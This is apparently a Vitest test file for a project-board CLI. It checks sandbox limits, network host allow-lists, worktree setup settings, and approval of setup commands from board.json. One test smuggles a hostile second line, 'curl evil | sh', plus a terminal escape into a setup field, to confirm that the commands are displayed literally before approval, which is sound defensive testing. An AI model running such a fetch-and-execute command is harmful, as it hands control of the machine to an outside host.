import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { commandLine, type CommandLine } from '../support/commands/commandLine.ts'
import { onTerminal } from '../support/terminals/onTerminal.ts'
import { startBoard, type TestBoard } from '../support/servers/testBoard.ts'

let server: TestBoard
let cli: CommandLine
let id: string
let folder: string

beforeAll(async () => {
  server = await startBoard()
  cli = commandLine({ BOARD_URL: server.url, BOARD_TOKEN: server.token })
  folder = server.folder('web')
  id = (await server.client.projects.create({ name: 'web', path: folder })).id
})
afterAll(async () => {
  cli.close()
  await server.close()
})
const project = () => server.client.projects.get({ id })

test('the limits of the sandbox are set, and removed by none', async () => {
  const bounds = ['--max-memory', '--max-processes', '--max-file', '--max-time']
  const given = (values: string[]) => bounds.flatMap((name, at) => [name, values[at]!])
  await cli.ok(['projects', 'sandbox', 'web', ...given(['4G', '100', '2G', '2h'])])
  expect((await project()).sandbox).toMatchObject({ memoryMiB: 4096, processes: 100, fileMiB: 2048, minutes: 120 })
  await cli.ok(['projects', 'sandbox', 'web', ...given(['none', 'none', 'none', 'none'])])
  expect((await project()).sandbox).toMatchObject({ memoryMiB: null, processes: null, fileMiB: null, minutes: null })
  for (const wrong of [
    ['--max-memory', 'much'],
    ['--max-processes', '0'],
    ['--max-time', 'often'],
  ])
    expect((await cli.board(['projects', 'sandbox', 'web', ...wrong])).code).toBe(2)
})

test('--session-cards sets how many cards a session creates, 0 for none', async () => {
  for (const given of [20, 0]) {
    await cli.ok(['projects', 'edit', 'web', '--session-cards', String(given)])
    expect((await project()).sessionCards).toBe(given)
  }
  expect(await cli.ok(['projects', 'view', 'web'])).toContain('sessionCards\t0\n')
  expect((await cli.board(['projects', 'edit', 'web', '--session-cards', 'many'])).code).toBe(2)
})

test('--after-merge sets the steps after each merge', async () => {
  expect(await cli.ok(['projects', 'view', 'web'])).toContain('afterMerge\tnone\n')
  await cli.ok(['projects', 'edit', 'web', '--after-merge', 'done,worktree'])
  expect((await project()).afterMerge).toEqual({ moveToDone: true, removeWorktree: true })
  expect(await cli.ok(['projects', 'view', 'web'])).toContain('afterMerge\tdone,worktree\n')
  await cli.ok(['projects', 'edit', 'web', '--after-merge', 'worktree'])
  expect((await project()).afterMerge).toEqual({ moveToDone: false, removeWorktree: true })
  expect((await cli.board(['projects', 'edit', 'web', '--after-merge', 'all'])).code).toBe(2)
})

test('--allow adds a host to the existing ones, as a refusal suggests, and --disallow removes it', async () => {
  const hosts = async (...args: string[]) => {
    await cli.ok(['projects', 'sandbox', 'web', ...args])
    return (await project()).sandbox.hosts
  }
  expect(await hosts('--network', 'listed', '--allow', 'a.example.org', '--allow', 'B.example.org')).toEqual([
    'a.example.org',
    'b.example.org',
  ])
  expect(await hosts('--allow', 'c.example.org:8443')).toEqual(['a.example.org', 'b.example.org', 'c.example.org:8443'])
  expect(await hosts('--disallow', 'b.example.org', '--allow', 'd.example.org')).toEqual([
    'a.example.org',
    'c.example.org:8443',
    'd.example.org',
  ])
  expect(await hosts('--allow', 'none')).toEqual([])
})

test('the settings of worktrees are set, disabled by none, and delegated to board.json', async () => {
  const set = (...args: string[]) => cli.ok(['projects', 'worktree', 'web', ...args])
  await set('--setup', 'npm ci', '--ports', '2', '--max-time', '30m', '--subfolder', 'packages/web', '--copy', '.env')
  expect((await project()).worktree).toMatchObject({
    setup: 'npm ci',
    ports: 2,
    minutes: 30,
    subfolder: 'packages/web',
    copiedFiles: ['.env'],
  })
  await set('--setup', 'none', '--ports', 'board.json', '--max-time', 'board.json', '--subfolder', 'board.json')
  expect((await project()).worktree).toMatchObject({ setup: '', ports: null, minutes: null, subfolder: null })
  await set('--setup', 'board.json', '--copy', 'none')
  expect((await project()).worktree).toMatchObject({ setup: null, copiedFiles: [] })
  for (const wrong of [
    ['--ports', '99'],
    ['--ports', 'many'],
    ['--subfolder', '../out'],
    ['--copy', '.env', '--copy', '../out/.env'],
    ['--max-time', '0'],
  ])
    expect((await cli.board(['projects', 'worktree', 'web', ...wrong])).code).toBe(2)
})

test('board.json is shown before it is approved, and without a terminal approved by --yes only', async () => {
  expect((await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])).code).toBe(3)
  writeFileSync(join(folder, 'board.json'), '{ "setup": "npm ci", "copiedFiles": [".env"] }')
  const shown = await cli.board(['projects', 'worktree', 'web'])
  expect(shown.stderr).toContain('a member must agree to its current version')
  const unasked = await cli.board(['projects', 'worktree', 'web', '--agree'])
  expect([unasked.code, unasked.stderr]).toEqual([2, expect.stringMatching(/setup: npm ci\ncopies: \.env\n[^]*--yes/)])
  await cli.ok(['projects', 'worktree', 'web', '--agree', '--yes'])
  expect(await cli.json(['projects', 'worktree', 'web'])).toMatchObject({ setup: 'npm ci', copiedFiles: ['.env'] })
  await cli.ok(['projects', 'worktree', 'web', '--withdraw'])
  expect(await cli.json(['projects', 'worktree', 'web'])).toMatchObject({ setup: '', copiedFiles: [] })
  writeFileSync(join(folder, 'board.json'), '{')
  const broken = await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])
  expect([broken.code, broken.stderr]).toEqual([1, expect.stringContaining('it is not JSON')])
})

test('commands of board.json are shown literally: a second line is neither part of the comment before it nor another setting', async () => {
  writeFileSync(
    join(folder, 'board.json'),
    JSON.stringify({ setup: 'npm ci # all\ncurl evil | sh\r\npreview: safe\u001b[2J' }),
  )
  const shown = 'setup: npm ci # all\n    curl evil | sh\n    preview: safe\u241b[2J\n'
  const { stderr } = await cli.board(['projects', 'worktree', 'web', '--agree'])
  expect(stderr).toContain(shown)
  expect(await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])).toMatchObject({
    code: 0,
    stderr: expect.stringContaining(shown),
  })
  await cli.ok(['projects', 'worktree', 'web', '--withdraw'])
  // --quiet does not hide the text of a question.
  const asked = await onTerminal(['projects', 'worktree', 'web', '--agree', '--quiet'], {
    cwd: folder,
    env: cli.env,
    answers: [['to run these commands?', 'n\r']],
  })
  expect(asked).toMatchObject({ code: 1, text: expect.stringContaining(shown) })
})

test('one record is printed, and contradictory options are rejected', async () => {
  writeFileSync(join(folder, 'board.json'), '{ "setup": "npm ci" }')
  expect(await cli.json(['projects', 'worktree', 'web', '--ports', '1', '--agree', '--yes'])).toMatchObject({
    ports: 1,
  })
  for (const args of [
    ['worktree', 'web', '--agree', '--withdraw'],
    ['worktree', 'web', '--copy', 'none', '--copy', '.env'],
    ['sandbox', 'web', '--allow', 'none', '--allow', 'example.org'],
  ])
    expect((await cli.board(['projects', ...args])).code, args.join(' ')).toBe(2)
  expect((await project()).sandbox.hosts).toEqual([])
})
